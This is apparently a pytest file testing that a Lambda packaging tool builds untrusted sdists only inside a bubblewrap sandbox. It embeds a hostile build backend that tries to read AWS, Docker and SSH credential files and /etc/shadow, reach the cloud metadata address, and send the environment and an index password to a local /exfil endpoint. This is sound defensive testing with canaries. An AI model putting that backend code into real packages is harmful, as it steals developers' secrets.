"""#19.4: an sdist-only package from the index is resolved and built in the bubblewrap sandbox,
never on the build host.

The packages come from a real index on 127.0.0.1 (:mod:`tests.hostile.package_index`). Their
build backend is in the sdist itself (PEP 517 ``backend-path``), so it is the package's own code
that runs, both when the resolver asks it for metadata and when the wheel is built. The hostile
one tries to read canary files in ``$HOME`` (``~/.aws/credentials``, ``~/.docker/config.json``,
``~/.ssh/id_rsa``), read canary environment variables, write outside its scratch directory,
reach a service on the host's loopback, the cloud metadata address and a non-index host through
the sandbox's proxy; it records what it saw in the wheel it builds. A benign setuptools sdist
(its build requirement from PyPI, through the sandbox's proxy) builds next to it.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.hostile.package_index import PackageIndex, write_sdist
from tests.hostile.registry_server import HostileServer

CANARY_FILE = "canary-home-file-5d1e"
CANARY_ENV = "canary-env-secret-8b3a"
CANARY_INDEX = "canary-index-password-41c7"

BACKEND = r'''
import base64, hashlib, json, os, socket, zipfile

NAME, VERSION = {name!r}, "1.0"
MODE = {mode!r}
READ = {read!r}
WRITE = {write!r}
PORT = {port!r}
LIST = {listed!r}
EXFIL = {exfil!r}  # (index port, the project's requirements file): what the resolution's run can read


def _try(f):
    try:
        return "ok: " + str(f())[:300]
    except Exception as exc:
        return "denied: " + type(exc).__name__


def _connect(host, port):
    socket.create_connection((host, port), timeout=3).close()
    return "connected"


def _tunnel(target):
    proxy = os.environ["HTTPS_PROXY"].rsplit("/", 1)[-1]
    host, port = proxy.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    return s.recv(200).split(b"\r\n", 1)[0].decode()


def probe():
    return {{
        "read": {{p: _try(lambda p=p: open(p).read()) for p in READ}},
        "write": {{p: _try(lambda p=p: open(p, "w").write("escaped")) for p in WRITE}},
        "root": sorted(os.listdir("/")),
        "listed": {{d: _try(lambda d=d: sorted(os.listdir(d))) for d in LIST}},
        "home": os.environ.get("HOME"),
        "env": dict(os.environ),
        "uid": os.getuid(),
        "connect": {{"%s:%d" % t: _try(lambda t=t: _connect(*t))
                    for t in [("127.0.0.1", PORT), ("169.254.169.254", 80)]}},
        "tunnel": {{t: _try(lambda t=t: _tunnel(t)) for t in ["127.0.0.1:%d" % PORT, "example.com:443"]}},
    }}


def _wheel(directory, extra):
    dist = "%s-%s.dist-info" % (NAME, VERSION)
    meta = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION)
    tag = "cp311-cp311-manylinux_2_17_x86_64" if MODE == "native-tag" else "py3-none-any"
    files = {{"%s/__init__.py" % NAME: "VALUE = 1\n", dist + "/METADATA": meta,
             dist + "/WHEEL": "Wheel-Version: 1.0\nGenerator: probe\nRoot-Is-Purelib: true\nTag: %s\n" % tag, **extra}}
    record = []
    for arc, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (arc, digest, len(text.encode())))
    files[dist + "/RECORD"] = "\n".join(record + [dist + "/RECORD,,"]) + "\n"
    name = NAME if MODE != "shadow" else "six"
    filename = "%s-%s-%s.whl" % (name, VERSION if MODE != "shadow" else "99.0", tag)
    with zipfile.ZipFile(os.path.join(directory, filename), "w") as z:
        for arc, text in files.items():
            z.writestr(arc, text)
    return filename


def _exfiltrate():
    """Send what this run can read to the one host it can reach (the index): the requirements
    file (its index URL's password) and the environment."""
    import urllib.parse, urllib.request
    port, req = EXFIL
    data = json.dumps({{"req": _try(lambda: open(req).read()), "env": dict(os.environ)}})
    url = "http://127.0.0.1:%d/exfil?d=%s" % (port, urllib.parse.quote(data[:6000]))
    return _try(lambda: urllib.request.urlopen(url, timeout=5).status)


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    probe()  # the resolver's call: the same attempts, in the resolution's sandbox
    _exfiltrate()
    dist = os.path.join(metadata_directory, "%s-%s.dist-info" % (NAME, VERSION))
    os.makedirs(dist)
    with open(os.path.join(dist, "METADATA"), "w") as f:
        f.write("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION))
    return os.path.basename(dist)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if MODE == "fail":
        raise SystemExit("this build fails")
    return _wheel(wheel_directory, {{"%s/findings.json" % NAME: json.dumps(probe(), indent=1)}})


def build_sdist(sdist_directory, config_settings=None):
    raise NotImplementedError
'''

BENIGN = {"setup.py": "from setuptools import setup\nsetup(name='lsbenign', version='1.0', py_modules=['lsbenign'])\n",
          "lsbenign.py": "VALUE = 'benign'\n",
          "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'}


def _backend_sdist(dest: Path, name: str, mode: str, home: Path, escape: Path, port: int,
                   exfil: tuple[int, str] = (0, "")) -> Path:
    read = [str(home / ".aws" / "credentials"), str(home / ".docker" / "config.json"), str(home / ".ssh" / "id_rsa"),
            "/etc/shadow", f"/proc/{os.getpid()}/environ"]
    write = [str(escape), str(home / "escaped"), "/usr/lib/escaped", "/etc/escaped"]
    listed = [str(home), str(Path.home()), "/etc"]
    backend = BACKEND.format(name=name, mode=mode, read=read, write=write, port=port, listed=listed, exfil=exfil)
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "probe_backend"\nbackend-path = ["."]\n'
    return write_sdist(dest, name, {"pyproject.toml": pyproject, "probe_backend.py": backend})


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home with the credential files a build machine has, each holding the canary."""
    home = tmp_path / "userhome"
    for rel in (".aws/credentials", ".docker/config.json", ".ssh/id_rsa", ".netrc"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(f"{CANARY_FILE}\n")
    return home


@pytest.fixture
def canary_service() -> HostileServer:
    """A service on the host's loopback (a local stack, a metadata emulator) that must see nothing."""
    with HostileServer(lambda req: req.send(200, b"secret")) as server:
        yield server


def _project(tmp_path: Path, index: PackageIndex, names: list[str]) -> Path:
    app = tmp_path / "proj"
    app.mkdir(exist_ok=True)
    (app / "main.py").write_text("def handler(event, context):\n    return 1\n")
    (app / "lambdaship.toml").write_text('function_name = "sd"\nhandler = "main.handler"\npython = "3.11"\n')
    url = index.url.replace("://", f"://lsuser:{CANARY_INDEX}@")  # an index password in the file
    (app / "requirements.txt").write_text(f"--extra-index-url {url}\n" + "".join(f"{n}==1.0\n" for n in names))
    return app


def _size(app: Path, tmp_path: Path, home: Path, **env: str):
    return run_cli("size", "-C", str(app), "--json", env={
        "HOME": str(home), "LAMBDASHIP_HOME": str(tmp_path / "lshome"), "UV_CACHE_DIR": str(tmp_path / "uvcache"),
        "AWS_SECRET_ACCESS_KEY": CANARY_ENV, "GITHUB_TOKEN": CANARY_ENV, "LAMBDASHIP_TEST_SECRET": CANARY_ENV, **env})


def _tree(tmp_path: Path) -> Path:
    trees = list((tmp_path / "lshome" / "deps").glob("*/tree"))
    assert len(trees) == 1, trees
    return trees[0]


def _everything(root: Path) -> str:
    return "\n".join(p.read_bytes().decode("latin-1") for p in root.rglob("*") if p.is_file())


@pytest.mark.slow
def test_hostile_sdist_builds_in_the_sandbox_and_sees_nothing_of_the_host(
    tmp_path: Path, home: Path, canary_service: HostileServer
) -> None:
    escape = tmp_path / "ESCAPED"
    with PackageIndex() as index:
        exfil = (index.server.port, str(tmp_path / "proj" / "requirements.txt"))
        index.add(_backend_sdist(tmp_path / "dist", "lsprobe_hostile", "probe", home, escape, canary_service.port,
                                 exfil))
        index.add(write_sdist(tmp_path / "dist", "lsbenign", BENIGN))
        app = _project(tmp_path, index, ["lsprobe_hostile", "lsbenign"])
        r = _size(app, tmp_path, home)
        sent = [req.query["d"][0] for req in index.server.seen if req.path == "/exfil"]
    assert r.returncode == 0, r.stderr
    tree = _tree(tmp_path)
    assert (tree / "lsbenign.py").read_text() == "VALUE = 'benign'\n"  # the benign sdist's ordinary wheel
    found = json.loads((tree / "lsprobe_hostile" / "findings.json").read_text())
    assert all(v.startswith("denied") for v in found["read"].values()), found["read"]
    assert all(v.startswith("denied") for v in found["write"].values()), found["write"]
    assert not escape.exists() and not (home / "escaped").exists()
    assert not Path("/usr/lib/escaped").exists() and not Path("/etc/escaped").exists()
    assert found["home"] == "/build/home" and str(home) not in json.dumps(found["env"])
    assert not {"home", "work", "var", "srv", "mnt"} & set(found["root"]), found["root"]
    listed = found["listed"]  # the home holds at most what the interpreter needs (pyenv's versions)
    assert listed[str(home)].startswith("denied") and not {".aws", ".docker", ".ssh", ".netrc", ".cache", "shadow",
                                                          "gshadow"} & set(" ".join(listed.values()).split("'")), listed
    assert not [k for k in found["env"] if k.startswith(("AWS_", "GITHUB_", "LAMBDASHIP_"))], found["env"]
    assert all(v.startswith("denied") for v in found["connect"].values()), found["connect"]
    assert all("403" in v or v.startswith("denied") for v in found["tunnel"].values()), found["tunnel"]
    assert canary_service.seen == []  # neither the resolution's nor the build's run reached it
    assert sent and "lsprobe_hostile==1.0" in sent[0]  # the resolution's run read the file and reached the index
    assert not [c for c in (CANARY_INDEX, CANARY_FILE, CANARY_ENV) if c in "".join(sent)], sent
    everything = r.stdout + r.stderr + _everything(tmp_path / "lshome")
    assert not [c for c in (CANARY_INDEX, CANARY_FILE, CANARY_ENV) if c in everything]


HOSTILE_WHEELS = {  # what the one line says (uv's own check of the wheel's name, or lambdaship's)
    "shadow": ("the wheel declares name six", "a wheel of another package"),  # six-99.0: would shadow six
    "native-tag": ("native code to compile: lsprobe-mode==1.0",),  # a platform wheel
    "fail": ("building from source in the sandbox failed: lsprobe-mode==1.0",),
}


@pytest.mark.slow
@pytest.mark.parametrize("mode", sorted(HOSTILE_WHEELS), ids=sorted(HOSTILE_WHEELS))
def test_a_build_that_lies_or_fails_is_refused_in_one_line(
    mode: str, tmp_path: Path, home: Path, canary_service: HostileServer
) -> None:
    with PackageIndex() as index:
        index.add(_backend_sdist(tmp_path / "dist", "lsprobe_mode", mode, home, tmp_path / "E", canary_service.port))
        r = _size(_project(tmp_path, index, ["lsprobe-mode"]), tmp_path, home)
    assert r.returncode == 1
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: no wheel for Python 3.11"), r.stderr
    assert any(text in lines[0] for text in HOSTILE_WHEELS[mode]) and "lsprobe-mode==1.0" in lines[0], lines[0]
    assert "Traceback" not in r.stderr and CANARY_ENV not in r.stderr + r.stdout


@pytest.mark.parametrize("case", ["disabled", "no-bwrap"])
def test_without_bubblewrap_an_sdist_is_refused_never_built_on_the_host(
    case: str, tmp_path: Path, home: Path, canary_service: HostileServer
) -> None:
    marker = tmp_path / "E"
    bin_dir = tmp_path / "bin"  # a PATH with this Python (uv looks for one) and no bwrap
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sys.executable)
    env = {"LAMBDASHIP_SANDBOX": "none"} if case == "disabled" else {"PATH": str(bin_dir)}
    with PackageIndex() as index:
        index.add(_backend_sdist(tmp_path / "dist", "lsprobe_mode", "probe", home, marker, canary_service.port))
        r = _size(_project(tmp_path, index, ["lsprobe-mode"]), tmp_path, home, **env)
    assert r.returncode == 1
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1, r.stderr
    assert lines[0].startswith("error: building lsprobe-mode") and "bubblewrap sandbox" in lines[0], lines[0]
    assert "apt-get install bubblewrap" in lines[0]
    assert not marker.exists() and canary_service.seen == []
